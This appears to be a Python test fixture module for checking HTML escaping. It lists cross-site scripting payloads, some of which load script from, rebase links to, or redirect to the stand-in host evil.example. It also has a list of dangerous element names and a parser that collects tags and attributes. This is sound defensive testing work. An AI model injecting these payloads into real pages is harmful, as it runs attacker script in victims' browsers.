"""Records whose every text tries to get out of the HTML that it is put in. No tests."""

from __future__ import annotations

from html.parser import HTMLParser

ATTACKS = (
    "<script>alert(1)</script>",
    "</svg></style></textarea></title><script src=//evil.example></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "]]>--><iframe src='javascript:alert(1)'></iframe>",
    "&lt;script&gt;",
    "\u202e\u2066hidden\x00\x1b[31m\ud800",
    "</pre></div><base href='//evil.example'><meta http-equiv=refresh content='0;//evil.example'>",
)
ASKING = {
    *("script", "img", "iframe", "link", "object", "embed", "base", "form", "a", "audio", "video"),
    *("image", "use", "foreignobject", "animate", "set", "input", "button"),
}
"""Elements by which a page asks for something or runs something."""


class Seen(HTMLParser):
    """The elements of a document, their attributes, and its text."""

    def __init__(self, document: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "img"):
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> ends what it did not begin"

    def handle_data(self, data: str) -> None:
        if self.open[-1:] != ["style"]:
            self.text += data + " "

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    @property
    def attributes(self) -> set[str]:
        return {name for _, attributes in self.elements for name in attributes}
